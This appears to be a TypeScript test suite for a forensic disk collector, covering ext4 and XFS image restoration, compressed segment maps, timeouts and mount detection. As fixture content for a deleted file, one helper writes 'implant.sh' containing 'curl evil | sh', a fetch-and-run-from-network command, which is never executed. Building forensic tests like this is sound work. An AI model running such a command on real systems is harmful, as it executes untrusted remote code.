import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { mkdir, open, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { usesOf } from '../../../agent/collectors/disk/mounted.ts';
import { disk } from '../../../agent/collectors/disk.ts';
import { type Host, hostAt } from '../../../agent/host/host.ts';
import { readChain, readWhole, records, verifyBundle } from '../../../evidence/index.ts';
import type { MadeBundle } from '../../helpers/bundle.ts';
import { collect, rowsOf } from '../../helpers/collect.ts';
import { needs } from '../../helpers/component.ts';
import { bundleOf, restoredDisk } from '../../helpers/disk-bundle.ts';
import { type LoopDevice, loopDevice } from '../../helpers/loop-device.ts';
import { temporaryFolder } from '../../helpers/temporary.ts';

const MEBIBYTE = 1024 ** 2;
const SMALL = { segment: 8 * MEBIBYTE, chunk: MEBIBYTE, unit: 128 * 1024 };

interface Row {
  readonly kind: string;
  readonly offset: number;
  readonly length: number;
  readonly segment: number;
  readonly frame: { readonly offset: number; readonly length: number };
}

async function mapOf(made: MadeBundle, device: string): Promise<readonly Row[]> {
  const bytes = await readWhole(made.store, `data/80-disk/${device}/map.jsonl`, 64 * MEBIBYTE);
  return rowsOf(bytes).map(({ impound }) => impound as Row);
}

async function storedOf(made: MadeBundle) {
  return records((await readChain(made.store)).map(({ statement }) => statement));
}

function same(left: string, right: string): void {
  execFileSync('cmp', [left, right], { stdio: 'pipe' });
}

/** A file system with a file, and one that was deleted. */
async function withFiles(t: TestContext, bytes: number, ...make: readonly string[]): Promise<LoopDevice> {
  const [program = '', ...args] = make;
  const device = await loopDevice(t, bytes, (file) => execFileSync(program, [...args, file], { stdio: 'pipe' }));
  const { path, mount } = device;
  execFileSync('mount', [path, mount]);
  await writeFile(join(mount, 'kept.bin'), randomBytes(3 * MEBIBYTE));
  await writeFile(join(mount, 'implant.sh'), 'curl evil | sh');
  execFileSync('sync', ['-f', mount]);
  await rm(join(mount, 'implant.sh'));
  execFileSync('umount', [mount]);
  return device;
}

test('an ext4 disk is restored byte for byte, and another tool finds its deleted file', async (t) => {
  if (!needs(t, 'losetup', 'mkfs.ext4', 'fls', 'zstd')) return;
  const device = await withFiles(t, 64 * MEBIBYTE, 'mkfs.ext4', '-q', '-F');
  const made = await bundleOf(t, { devices: [device.path], sizes: SMALL });
  assert.equal((await verifyBundle(made.store)).verdict, 'intact');
  const { file, result } = await restoredDisk(t, made, device.name);
  same(file, device.file);
  assert.equal(result.data + result.zero, 64 * MEBIBYTE);
  const listed = execFileSync('fls', ['-r', '-p', file]).toString();
  assert.match(listed, /^r\/r \d+:\tkept\.bin$/m);
  // its name is wiped since Linux 5.13
  assert.match(listed, /^.\/r \* \d+:\t/m);
  const { blocks } = await stat(file);
  assert.ok(blocks * 512 <= result.data + MEBIBYTE, 'zeros are holes');
});

test('an XFS disk is restored byte for byte', async (t) => {
  if (!needs(t, 'losetup', 'mkfs.xfs')) return;
  const device = await withFiles(t, 320 * MEBIBYTE, 'mkfs.xfs', '-q');
  const made = await bundleOf(t, { devices: [device.path] });
  const { file } = await restoredDisk(t, made, device.name);
  same(file, device.file);
});

test('segments roll by range, each is whole frames with a table at its end, and the map names every frame', async (t) => {
  if (!needs(t, 'losetup', 'zstd')) return;
  const content = Buffer.alloc(40 * MEBIBYTE + 512 * 3);
  randomBytes(10 * MEBIBYTE).copy(content, 3 * MEBIBYTE);
  randomBytes(700).copy(content, content.length - 700);
  const device = await loopDevice(t, content.length, (file) => writeFile(file, content));
  const made = await bundleOf(t, { devices: [device.path], sizes: SMALL });
  const rows = await mapOf(made, device.name);
  const stored = (await storedOf(made)).filter(({ path }) => path.endsWith('.img.zst'));
  const segments = stored.map(({ path }) => path.replace(/.*\//, '')).sort();
  assert.deepEqual(
    segments,
    ['000000.img.zst', '000001.img.zst', '000005.img.zst'],
    'a segment of zeros is not stored',
  );
  let done = 0;
  for (const row of rows.slice(1, -1)) {
    assert.equal(row.offset, done);
    done += row.length;
  }
  assert.equal(done, content.length);
  for (const { path, contentSize, sha256: _ } of stored) {
    const number = Number(/(\d+)\.img/.exec(path)?.[1]);
    const own = rows.filter(({ kind, segment }) => kind === 'data' && segment === number);
    const bytes = await readWhole(made.store, path, 64 * MEBIBYTE);
    const expected = Buffer.concat(own.map(({ offset, length }) => content.subarray(offset, offset + length)));
    assert.ok(execFileSync('zstd', ['-dc'], { input: bytes, maxBuffer: 64 * MEBIBYTE }).equals(expected));
    assert.equal(contentSize, expected.length);
    const [footer, entries] = [bytes.subarray(-9), bytes.readUInt32LE(bytes.length - 9)];
    assert.equal(footer.readUInt32LE(5), 0x8f92eab1);
    assert.equal(entries, own.length);
    const table = bytes.subarray(bytes.length - 9 - 8 * entries);
    own.forEach(({ frame, length }, index) => {
      assert.deepEqual([frame.length, length], [table.readUInt32LE(8 * index), table.readUInt32LE(8 * index + 4)]);
    });
  }
  same((await restoredDisk(t, made, device.name)).file, device.file);
});

test('a disk of a tebibyte without data is one run of zeros, or as much of it as time allows', async (t) => {
  if (!needs(t, 'losetup')) return;
  const device = await loopDevice(t, 1024 ** 4, async (file) => {
    const handle = await open(file, 'r+');
    await handle.write(randomBytes(4096), 0, 4096, 5 * MEBIBYTE);
    await handle.close();
  });
  const made = await bundleOf(t, { devices: [device.path], seconds: 2 });
  const rows = await mapOf(made, device.name);
  assert.equal(rows.at(-1)?.kind, 'end');
  assert.equal(rows.at(-2)?.kind, 'untried');
  const gaps = (await readWhole(made.store, 'data/00-meta/gaps.jsonl', MEBIBYTE)).toString();
  assert.match(gaps, /"reason":"timeout".*the time for disks was over.*\d+ of 1099511627776 bytes left/);
  const { file, result } = await restoredDisk(t, made, device.name, { offset: 5 * MEBIBYTE, length: 4096 });
  assert.equal(result.data, 4096);
  assert.ok((await readFile(file)).equals(await readStart(device.file, 5 * MEBIBYTE, 4096)));
});

async function readStart(file: string, position: number, length: number): Promise<Buffer> {
  const handle = await open(file);
  try {
    return (await handle.read(Buffer.alloc(length), 0, length, position)).buffer;
  } finally {
    await handle.close();
  }
}

test('device.json tells a device that is mounted or read-only from one not known to be at rest, with its geometry', async (t) => {
  if (!needs(t, 'losetup', 'mkfs.ext4')) return;
  const device = await withFiles(t, 32 * MEBIBYTE, 'mkfs.ext4', '-q', '-F');
  const { mount } = device;
  const about = async () => {
    const { artefacts } = await collect(disk, { devices: [device.path], ownFolders: [] });
    return rowsOf(artefacts.get(`80-disk/${device.name}/device.json`))[0]?.impound as Record<string, unknown>;
  };
  const resting = await about();
  assert.deepEqual([resting.live, resting.mounts], [undefined, []]);
  assert.deepEqual([resting.bytes, resting.logicalBlockBytes], [32 * MEBIBYTE, 512]);
  execFileSync('mount', [device.path, mount]);
  const mounted = await about();
  assert.equal(mounted.live, true);
  assert.deepEqual(mounted.mounts, [{ device: device.name, point: mount, type: 'ext4', readOnly: false }]);
  execFileSync('mount', ['-o', 'remount,ro', mount]);
  assert.equal((await about()).live, undefined);
  execFileSync('umount', [mount]);
  execFileSync('blockdev', ['--setro', device.path]);
  try {
    assert.equal((await about()).live, false);
  } finally {
    // the mark would outlive the file behind it, and make the next test's device read-only
    execFileSync('blockdev', ['--setrw', device.path]);
  }
});

test('a device that is mounted where this process does not see it is not called at rest', async (t) => {
  if (!needs(t, 'losetup', 'mkfs.ext4')) return;
  const device = await withFiles(t, 32 * MEBIBYTE, 'mkfs.ext4', '-q', '-F');
  const child = spawn('unshare', [
    '-m',
    'sh',
    '-c',
    'mount "$0" "$1" && echo mounted && read end',
    device.path,
    device.mount,
  ]);
  const exited = once(child, 'exit');
  t.after(async () => {
    child.stdin.end();
    await exited;
  });
  assert.equal(String((await once(child.stdout, 'data'))[0]), 'mounted\n');
  const { artefacts } = await collect(disk, { devices: [device.path], ownFolders: [] });
  const about = rowsOf(artefacts.get(`80-disk/${device.name}/device.json`))[0]?.impound as Record<string, unknown>;
  assert.deepEqual([about.live, about.mounts], [undefined, []]);
});

test('mounts of the first process and of this one are both told, once', async (t) => {
  if (!needs(t, 'losetup', 'mkfs.ext4')) return;
  const device = await withFiles(t, 32 * MEBIBYTE, 'mkfs.ext4', '-q', '-F');
  execFileSync('mount', [device.path, device.mount]);
  const folder = { name: device.name, path: `/sys/block/${device.name}` };
  const proc = await temporaryFolder(t);
  await mkdir(join(proc, '1'));
  await writeFile(join(proc, '1/mountinfo'), `1 1 0:1 / /there rw - ext4 ${device.path} rw\n`);
  const points = (host: Host) => usesOf(host, folder).mounts.map(({ point }) => point);
  assert.deepEqual(points(hostAt('/', { proc })), ['/there', device.mount]);
  assert.deepEqual(points(hostAt('/')), [device.mount]);
});
